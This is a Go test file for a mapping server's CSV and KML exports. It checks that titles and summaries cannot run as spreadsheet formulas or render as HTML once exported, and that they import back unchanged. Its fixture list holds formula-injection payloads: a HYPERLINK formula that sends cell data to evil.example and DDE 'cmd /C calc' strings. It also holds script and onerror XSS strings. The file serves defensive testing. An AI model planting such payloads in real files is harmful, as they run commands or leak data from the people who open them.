package server

import (
	"encoding/json"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/dmzmap/dmzmap/data"
)

// hostileTexts are titles and summaries a spreadsheet would run as
// formulas or a KML client render as markup, and values that already start
// with the quote the CSV export adds.
var hostileTexts = []string{
	`=HYPERLINK("https://evil.example/?"&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`'=already quoted`,
	`''+twice quoted`,
	`'a plain quote`,
	`<script>alert(1)</script> & <img src=x onerror=alert(2)>`,
}

func hostileExportServer(t *testing.T) (*Server, []*data.Incident) {
	t.Helper()
	ins := fixture(loadMDL(t))[:len(hostileTexts)]
	for i, in := range ins {
		in.Title, in.Summary, in.Note = hostileTexts[i], hostileTexts[len(hostileTexts)-1-i], hostileTexts[i]
		in.Sources[0].Title = hostileTexts[i]
	}
	s, _, _ := newConfigServer(t, Config{Token: hostileToken}, ins)
	return s, ins
}

// python runs a python3 script with the file at path as its argument and
// decodes what it prints as JSON into v.
func python(t *testing.T, script, path string, v any) {
	t.Helper()
	out, err := exec.Command("python3", "-c", script, path).Output()
	if err != nil {
		if ee, ok := err.(*exec.ExitError); ok {
			t.Fatalf("python3: %v: %s", err, ee.Stderr)
		}
		t.Fatalf("python3: %v", err)
	}
	if err := json.Unmarshal(out, v); err != nil {
		t.Fatalf("python3 printed %q: %v", out, err)
	}
}

// TestCSVExportCannotRunFormulas reads the CSV export with Python's csv
// module: no cell starts with a formula character (except a plain
// negative number), each hostile title is there with one leading quote,
// and importing the export gives back every text unchanged.
func TestCSVExportCannotRunFormulas(t *testing.T) {
	s, ins := hostileExportServer(t)
	r := get(t, s, "/api/export.csv")
	if r.status != http.StatusOK {
		t.Fatalf("export: %d %s", r.status, r.body)
	}
	path := filepath.Join(t.TempDir(), "export.csv")
	if err := os.WriteFile(path, r.body, 0o644); err != nil {
		t.Fatal(err)
	}
	var rows []map[string]string
	python(t, `import csv, json, sys
print(json.dumps(list(csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8")))))`, path, &rows)
	if len(rows) != len(ins) {
		t.Fatalf("python's csv read %d rows, want %d", len(rows), len(ins))
	}
	titles := map[string]bool{}
	for _, row := range rows {
		titles[row["title"]] = true
		for col, v := range row {
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) && strings.Trim(v[1:], "0123456789.") != "" {
				t.Errorf("row %s, column %s: %q starts with a formula character", row["id"], col, v)
			}
		}
	}
	for _, text := range hostileTexts {
		want := text
		if strings.ContainsRune("=+-@", rune(strings.TrimLeft(text, "'")[0])) {
			want = "'" + text
		}
		if !titles[want] {
			t.Errorf("no title %q in the CSV (for %q); titles: %v", want, text, titles)
		}
	}

	// The export imports back, into an empty store, as the same texts.
	dst, store, _ := newConfigServer(t, Config{Token: hostileToken}, nil)
	res := request(t, dst, "POST", "/api/import", string(r.body), "Authorization", "Bearer "+hostileToken, "Content-Type", "text/csv")
	if res.status != http.StatusOK {
		t.Fatalf("importing the export: %d %s", res.status, res.body)
	}
	for _, in := range ins {
		b, err := store.Feature(in.ID)
		if err != nil {
			t.Fatal(err)
		}
		got, err := data.DecodeFeature(b)
		if err != nil {
			t.Fatal(err)
		}
		if got.Title != in.Title || got.Summary != in.Summary || got.Note != in.Note || got.Sources[0].Title != in.Sources[0].Title {
			t.Errorf("%s imported back as title %q summary %q note %q source %q; want %q %q %q %q", in.ID,
				got.Title, got.Summary, got.Note, got.Sources[0].Title, in.Title, in.Summary, in.Note, in.Sources[0].Title)
		}
	}
}

// TestKMLExportShowsTextAsText reads the KML export with Python's
// xml.etree and html.parser: each name is the title's characters, and
// each description holds no markup (no tag an HTML parser finds), only
// escaped text that shows as the summary's characters.
func TestKMLExportShowsTextAsText(t *testing.T) {
	s, ins := hostileExportServer(t)
	r := get(t, s, "/api/export.kml")
	if r.status != http.StatusOK {
		t.Fatalf("export: %d %s", r.status, r.body)
	}
	path := filepath.Join(t.TempDir(), "export.kml")
	if err := os.WriteFile(path, r.body, 0o644); err != nil {
		t.Fatal(err)
	}
	var marks []struct {
		Name, Description, Shown string
		Tags                     []string
	}
	python(t, `import html, html.parser, json, sys, xml.etree.ElementTree as ET
ns = {"k": "http://www.opengis.net/kml/2.2"}
class Tags(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.text = [], []
    def handle_starttag(self, tag, attrs): self.tags.append(tag)
    def handle_data(self, d): self.text.append(d)
out = []
for pm in ET.parse(sys.argv[1]).getroot().iter("{http://www.opengis.net/kml/2.2}Placemark"):
    d = pm.find("k:description", ns).text or ""
    p = Tags(); p.feed(d); p.close()
    out.append({"name": pm.find("k:name", ns).text, "description": d, "shown": "".join(p.text), "tags": p.tags})
print(json.dumps(out))`, path, &marks)
	if len(marks) != len(ins) {
		t.Fatalf("xml.etree found %d placemarks, want %d", len(marks), len(ins))
	}
	for i, m := range marks {
		if !slices.Contains(hostileTexts, m.Name) {
			t.Errorf("placemark %d: name %q is not one of the titles", i, m.Name)
		}
		if len(m.Tags) > 0 {
			t.Errorf("placemark %d: the description holds markup %v: %q", i, m.Tags, m.Description)
		}
		var summary string
		for _, in := range ins {
			if in.Title == m.Name {
				summary = in.Summary
			}
		}
		if !strings.HasPrefix(m.Shown, summary) {
			t.Errorf("placemark %d: the description shows %q, want it to start with %q", i, m.Shown, summary)
		}
	}
	shown := false
	for _, m := range marks {
		shown = shown || strings.Contains(m.Shown, "<script>alert(1)</script>") && strings.Contains(m.Shown, "<img src=x onerror=alert(2)>")
	}
	if !shown {
		t.Errorf("no description shows the <script> and <img onerror> text as characters")
	}
}
